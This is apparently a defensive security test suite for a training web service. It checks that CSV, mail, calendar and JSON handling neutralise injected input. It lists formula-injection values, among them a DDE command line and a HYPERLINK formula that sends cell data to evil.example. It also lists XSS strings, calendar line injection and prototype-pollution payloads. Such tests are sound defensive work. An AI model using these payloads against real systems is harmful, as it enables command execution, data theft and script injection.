import {readdirSync, readFileSync} from 'node:fs';
import path from 'node:path';
import * as fc from 'fast-check';
import ts from 'typescript';
import {afterAll, beforeAll, describe, expect, test} from 'vitest';
import {runCalendar} from '#core/runs/calendar.ts';
import {readCsv, writeCsv} from '#core/csv.ts';
import {findJwt} from '#core/credentials/findJwt.ts';
import {readStrictObject} from '#core/credentials/strictJson.ts';
import {DATA_PLACE, fillVerifier} from '#core/credentials/verifierFile.ts';
import {fromJson as readOpeningParagraph} from '#core/planning/openingParagraphFile.ts';
import {wordsForFile} from '#core/planning/ownFile.ts';
import {fromJson as readSelfAssessment} from '#core/planning/selfAssessmentFile.ts';
import {fromJson as readStakeholders} from '#core/planning/stakeholderFile.ts';
import {readImport} from '#core/planning/stakeholderImport.ts';
import {normalise} from '#core/quizzes/questions/typed.ts';
import {safeNext} from '#core/records/safeNext.ts';
import {readDeviceFile} from '#core/records/wholeDevice.ts';
import {termsOf} from '#core/network/search.ts';
import {addSynonyms} from '#core/search/synonyms.ts';
import {readStaffList} from '#core/targets/staffList.ts';
import {describeBrowser} from '#core/signIn/device.ts';
import {ACCESS} from '#server/access.ts';
import {readJoinCode} from '#server/records/joinCode.ts';
import {newId} from '../support/app.ts';
import type {Browser} from '../support/app.ts';
import {ODD_TEXT} from '../support/openapi.ts';
import {examplesOf, makeWorld} from './world.ts';
import type {World} from './world.ts';

const FORMULAS = ['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '＝1+1', '＋1', '－1', '＠x', '|calc', '  =2+2', '"=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?"&A1)', ';=1', ',=1', "'=1"];
const SCRIPTS = [
  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "'-alert(1)-'", '</title><svg onload=alert(1)>', '<a href=javascript:alert(1)>x</a>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '&lt;script&gt;', '</script><!--', ']]><x/>', '<iframe srcdoc="<script>1</script>">', '<style>@import "//evil.example"</style>',
];

/** Files that put markup of our own making into a page, none of it from people: the drawings that the build has checked. */
const WITH_MARKUP = ['components/diagrams/Diagram.tsx'];

let world: World;
beforeAll(async () => {
  world = await makeWorld();
});
afterAll(() => world.close());
const trainer = (): Browser => world.callers.trainer;

/** The cells of a CSV text, as a spreadsheet reads them. */
function cellsOf(csv: string): string[] {
  const read = readCsv(csv);
  if (!read.ok) throw new Error(read.sentence);
  return read.rows.flat();
}

describe('8 formulas in spreadsheets', () => {
  const RUNS = /^\s*[=+\-@|＝＋－＠\t\r]/;

  test('no text that a person can type starts a formula in a cell, and it can be read again', () => {
    fc.assert(fc.property(fc.array(fc.oneof(fc.constantFrom(...FORMULAS, ...ODD_TEXT), fc.string({unit: 'binary', maxLength: 30})), {minLength: 2, maxLength: 5}), (cells) => {
      const found = cellsOf(writeCsv(['A', 'B'], [cells])).slice(2);
      expect(found).toHaveLength(cells.length);
      found.forEach((cell, index) => {
        expect(cell).not.toMatch(RUNS);
        expect(cell === cells[index] || cell === `'${cells[index]}`).toBe(true);
      });
    }), {numRuns: 1000});
  });

  test('nor does anything in a file that the service gives out', async () => {
    for (const [index, displayName] of FORMULAS.entries()) {
      const person = await world.service.signIn(`formula.${index}@example.org`);
      await person.send('PATCH', '/api/me', {displayName});
      await person.send('POST', `/api/join/${world.own['joinCode']}`);
      await world.callers.nobody.send('POST', '/api/points', {...(examplesOf(world)['POST /api/points']?.() as object), text: displayName});
    }
    const {coordinator, lead} = world.callers;
    const files = Object.keys(ACCESS).filter((route) => route.endsWith('.csv')).map((route) => route.split(' ')[1] ?? '');
    expect(files.length).toBeGreaterThanOrEqual(7);
    for (const file of files) {
      const url = file.replace(':id', (file.includes('targets') ? world.own['targets'] : world.own['cohorts']) ?? '') + (file.includes('overview') ? '?course=planning' : '');
      const answer = await (file.includes('targets') ? lead : coordinator).send('GET', url);
      expect(answer.statusCode, file).toBe(200);
      expect(answer.headers, file).toMatchObject({'content-type': 'text/csv; charset=utf-8', 'cache-control': 'no-store', 'x-content-type-options': 'nosniff'});
      expect(cellsOf(answer.body).filter((cell) => RUNS.test(cell)), file).toEqual([]);
    }
  });
});

describe('11 scripts in names and free text', () => {
  /** Each way of sending somebody's words: who, where, the body, and where they are read again. */
  const WAYS: [string, (text: string) => [Browser, 'POST' | 'PUT' | 'PATCH', string, object], string?][] = [
    ['one’s name', (text) => [world.callers.learner, 'PATCH', '/api/me', {displayName: text}]],
    ['the title of a run', (text) => [trainer(), 'POST', '/api/cohorts', {id: newId(), courseId: 'planning', title: text, startsOn: '2026-12-01'}]],
    ['the place of a session', (text) => [trainer(), 'POST', `/api/cohorts/${world.own['cohorts']}/sessions`, {...(examplesOf(world)['POST /api/cohorts/:id/sessions']?.() as object), title: text, place: text, instructions: text}]],
    ['a reason in the register', (text) => [trainer(), 'POST', `/api/cohorts/${world.own['cohorts']}/register/marks`, {marks: [{...(examplesOf(world)['POST /api/cohorts/:id/register/marks']?.() as {marks: object[]}).marks[0], reason: text}]}]],
    ['a learning point', (text) => [world.callers.nobody, 'POST', '/api/points', {...(examplesOf(world)['POST /api/points']?.() as object), text}]],
    ['the title of a target', (text) => [world.callers.coordinator, 'POST', '/api/targets', {...(examplesOf(world)['POST /api/targets']?.() as object), title: text, note: text}]],
    ['a live question', (text) => [trainer(), 'PUT', `/api/live/${world.own['live']}/question`, {revision: 1, question: {id: 'q', type: 'true-false', stem: text, options: [{id: 'true', text}, {id: 'false', text: 'False'}]}}]],
    ['a network profile', (text) => [world.callers.learner, 'PUT', '/api/network/profile', {...(examplesOf(world)['PUT /api/network/profile']?.() as object), team: text, jobRole: text}]],
    ['a message to a run', (text) => [trainer(), 'POST', `/api/cohorts/${world.own['cohorts']}/messages`, {...(examplesOf(world)['POST /api/cohorts/:id/messages']?.() as object), subject: text, text}]],
  ];

  test.each(WAYS)('in %s are text in JSON, or refused', async (_title, make) => {
    for (const script of SCRIPTS) {
      const [browser, method, url, body] = make(script);
      const answer = await browser.send(method, url, body);
      expect(answer.statusCode, script).toBeLessThan(500);
      expect(String(answer.headers['content-type'])).toMatch(/^application\/(problem\+)?json/);
      expect(answer.headers).toMatchObject({'x-content-type-options': 'nosniff', 'content-security-policy': expect.stringContaining("default-src 'none'") as string});
    }
  });

  test('in a name come back to the letter', async () => {
    for (const displayName of SCRIPTS) expect((await world.callers.learner.send('PATCH', '/api/me', {displayName})).json()).toMatchObject({person: {displayName}});
  });

  test('in mail are plain text, and the page of mails on this machine escapes them', async () => {
    const sent = await world.ownerTrainer.send('POST', `/api/cohorts/${world.things.cohorts}/messages`, {...(examplesOf(world)['POST /api/cohorts/:id/messages']?.() as object), id: newId(), subject: '<img src=x onerror=alert(1)>', text: '<script>alert(2)</script>'});
    expect(sent.json()).toMatchObject({recipients: 1});
    let page = '';
    for (let turn = 0; turn < 100 && !page.includes('alert(2)'); turn += 1) {
      page = (await world.service.browser().send('GET', '/dev/mail', undefined, {host: 'localhost:3000'})).body;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(page).toContain('&lt;script&gt;alert(2)');
    expect(page).not.toMatch(/<script|<img|<svg|<iframe/);
    for (const {subject, to} of world.service.parts.mailer.recent() ?? []) expect(`${subject}${to}`).not.toMatch(/\p{Cc}/u);
  });

  test('in a calendar file stay inside their line', () => {
    for (const text of [...SCRIPTS, 'a\nBEGIN:VEVENT\nATTACH:http://evil.example', 'a\r\nEND:VCALENDAR', 'a;b,c\\d']) {
      const file = runCalendar({title: text, courseTitle: text, isCancelled: false}, [{
        id: newId(), title: text, startsAt: '2026-12-01T09:30:00.000Z', endsAt: '2026-12-01T12:30:00.000Z', mode: 'room', place: text, instructions: text, isMandatory: false, cancelledReason: null, revision: 1,
      }], {site: 'https://consult.example.org', stamp: '2026-11-22T09:00:00.000Z'});
      expect(file.match(/^BEGIN:VEVENT/gm)).toHaveLength(1);
      expect(file.match(/^END:VCALENDAR/gm)).toHaveLength(1);
      expect(file).not.toMatch(/^ATTACH/m);
    }
  });

  test('in the verifier to keep cannot end the element that they stand in', () => {
    for (const name of SCRIPTS) {
      const file = fillVerifier(`<p>${DATA_PLACE}</p>`, {madeAt: '2026-11-22T09:00:00.000Z', issuers: [{id: 'https://x.example', name, keys: []}], statusLists: []});
      expect(file.replace('<p>', '').replace('</p>', '').match(/</g)).toHaveLength(2);
    }
  });

  test('are put into no page as markup by our own code', () => {
    const root = path.resolve(__dirname, '../../src');
    const found = readdirSync(root, {recursive: true, encoding: 'utf8'}).filter((file) => /\.tsx?$/.test(file))
      .filter((file) => /dangerouslySetInnerHTML|\.innerHTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function\(/.test(readFileSync(path.join(root, file), 'utf8')));
    expect(found).toEqual(WITH_MARKUP);
  });
});

/** Readers of what people choose, paste or type. All must come back in good time with an answer, whatever they are given. */
const READERS: [string, (text: string) => unknown][] = [
  ['a device’s file', readDeviceFile], ['a draft', readOpeningParagraph], ['a self-assessment', readSelfAssessment], ['a list of stakeholders', readStakeholders],
  ['stakeholders as CSV', (text) => readImport(text, '2026-11-22')],
  ['a staff list', (text) => readStaffList(text, {directorates: [{id: 'place', name: 'Place'}], emailDomains: []})],
  ['CSV', readCsv], ['a pasted certificate', findJwt], ['strict JSON', readStrictObject], ['a way on after signing in', safeNext], ['a join code', readJoinCode],
  ['a typed answer', normalise], ['a question to the register', termsOf], ['a search', addSynonyms], ['the name of a file', wordsForFile], ['what a browser calls itself', describeBrowser],
];

describe('18 patterns and readers that take too long', () => {
  const PUMPS = ['a', ' ', '\n', '\r\n', '(', '[', '"', '.', '0', '-', '/', '@', 'a@', 'a.', 'a,', '[a](', '<a ', 'é', '=', '"",', 'a\n', ';'];

  test.each(READERS)('%s of 80,000 signs takes time in step with its length', (_title, read) => {
    for (const pump of PUMPS) {
      const time = (length: number): number => {
        const text = `${pump.repeat(Math.ceil(length / pump.length))}!`;
        return timeOf(() => read(text));
      };
      const [once, twice] = [time(40_000), time(80_000)];
      // A quadratic reader takes many seconds for this; a fair one some milliseconds.
      expect(twice, JSON.stringify(pump)).toBeLessThan(Math.max(1000, once * 5));
    }
  });

  /** Where a pattern takes time with the square of the length, and why that harms nobody. */
  const BOUNDED: [RegExp, string][] = [
    [/^server\/config\.ts$/, 'a setting of whoever runs the service'],
    [/^core\/(checker|diagrams|glossary|search|methods|quizzes\/attemptRule)/, 'text of our own pages, when the site is built'],
    [/^core\/planning\/(openingParagraph|representativeness)/, 'at most 2,000 signs of the person’s own, on their own device'],
    [/^core\/points\/place\.ts$/, 'an address of at most 200 signs'],
    [/^theme\//, 'a heading of our own pages'],
  ];

  test('no pattern that sees what people send takes time with the square of its length', {timeout: 60_000}, () => {
    const root = path.resolve(__dirname, '../../src');
    const slow: string[] = [];
    let patterns = 0;
    for (const file of readdirSync(root, {recursive: true, encoding: 'utf8'}).map((each) => each.split(path.sep).join('/')).filter((each) => /^(core|server|browser|pages|components|theme|machines)\/.*\.tsx?$/.test(each))) {
      for (const [source, flags] of patternsIn(path.join(root, file))) {
        patterns += 1;
        if (BOUNDED.some(([where]) => where.test(file))) continue;
        const pattern = new RegExp(source, flags.replace(/[gy]/g, ''));
        const isSlow = PUMPS.some((pump) => {
          const text = `${pump.repeat(Math.ceil(3000 / pump.length))}\u0000`;
          // Again before it counts: the first time also pays for making the pattern.
          return [1, 2, 3].every(() => timeOf(() => pattern.test(text)) > 3);
        });
        if (isSlow) slow.push(`${file}: /${source}/${flags}`);
      }
    }
    expect(patterns).toBeGreaterThan(300);
    expect(slow).toEqual([]);
  });
});

/** Milliseconds of work by this process alone, so that other work on the machine does not count. */
function timeOf(work: () => unknown): number {
  const start = process.cpuUsage();
  work();
  const {user, system} = process.cpuUsage(start);
  return (user + system) / 1000;
}

/** The patterns written in a file: source and flags. */
function patternsIn(file: string): [string, string][] {
  const found: [string, string][] = [];
  const walk = (node: ts.Node): void => {
    if (ts.isRegularExpressionLiteral(node)) {
      const end = node.text.lastIndexOf('/');
      found.push([node.text.slice(1, end), node.text.slice(end + 1)]);
    }
    ts.forEachChild(node, walk);
  };
  walk(ts.createSourceFile(file, readFileSync(file, 'utf8'), ts.ScriptTarget.Latest, false, file.endsWith('x') ? ts.ScriptKind.TSX : ts.ScriptKind.TS));
  return found;
}

describe('19 prototype pollution', () => {
  const POISON = ['{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '{"format":"askwell-my-learning","version":1,"__proto__":{"polluted":1},"device":{"__proto__":{"polluted":1}}}', '{"kind":"askwell-stakeholders","__proto__":{"polluted":1}}', '__proto__,Name,Email,Directorate\npolluted,x,a@example.org,place', 'Name,constructor.prototype\nx,polluted'];

  test.each(READERS)('%s leaves every other object as it is', (_title, read) => {
    for (const text of POISON) read(text);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });

  test.each(['?__proto__[polluted]=1', '?__proto__.polluted=1', '?constructor[prototype][polluted]=1', '?directorate[__proto__]=1', '?__proto__=1&__proto__=2'])('the query %s changes nothing', async (query) => {
    for (const url of ['/api/me', '/api/targets', '/api/points', '/api/network/people']) expect((await world.callers.coordinator.send('GET', url + query)).statusCode).toBeLessThan(500);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });
});

describe('22 what files and answers give away', () => {
  test('no file is named after a person, and none may be kept by a machine between', async () => {
    const {cohorts} = world.own;
    for (const url of [`/api/cohorts/${cohorts}/members.csv`, `/api/cohorts/${cohorts}/register.csv`, `/api/cohorts/${cohorts}/standings.csv`, `/api/cohorts/${cohorts}/calendar.ics`, '/api/points.csv']) {
      const {headers} = await trainer().send('GET', url);
      expect(headers['content-disposition'], url).toMatch(/^attachment; filename="[a-z-]+\.(csv|ics)"$/);
      expect(headers).toMatchObject({'cache-control': 'no-store', 'referrer-policy': 'same-origin'});
    }
  });

  test('the name of a file made of what somebody typed holds letters, figures and hyphens alone', () => {
    fc.assert(fc.property(fc.oneof(fc.string({unit: 'binary'}), fc.constantFrom(...ODD_TEXT)), (name) => {
      expect(wordsForFile(name)).toMatch(/^(?:[a-z0-9]+(?:-[a-z0-9]+)*)?$/);
      expect(wordsForFile(name).length).toBeLessThanOrEqual(60);
    }));
  });

  test('no address of a route carries a person’s name or e-mail address', () => {
    expect(Object.keys(ACCESS).filter((route) => /:(e-?mail|name)/i.test(route))).toEqual([]);
  });
});

describe('25 files that mean harm', () => {
  test.each(READERS)('%s: nothing made by chance stops the reader', (_title, read) => {
    const made = fc.oneof(fc.string({unit: 'binary', maxLength: 200}), fc.json(), fc.constantFrom(...ODD_TEXT), fc.json().map((json) => `{"format":"askwell-my-learning","version":1,"device":${json}}`), fc.array(fc.string({unit: fc.constantFrom(...',;\t"\r\n=aNé@')}), {maxLength: 5}).map((rows) => `Name,Email,Directorate\n${rows.join('\n')}`));
    fc.assert(fc.property(made, (text) => {
      expect(() => read(text)).not.toThrow();
    }), {numRuns: 300});
  });

  test.each(READERS)('%s: a hundred thousand brackets, no end and wrong kinds are answered', (_title, read) => {
    for (const text of ['['.repeat(100_000), `${'['.repeat(5000)}${']'.repeat(5000)}`, '{"a":'.repeat(20_000), '"', '\u0000', '\ufeff', '{"format":"askwell-my-learning","version":1e999}', '{"format":"askwell-my-learning","version":1,"device":null}']) expect(() => read(text)).not.toThrow();
  });
});
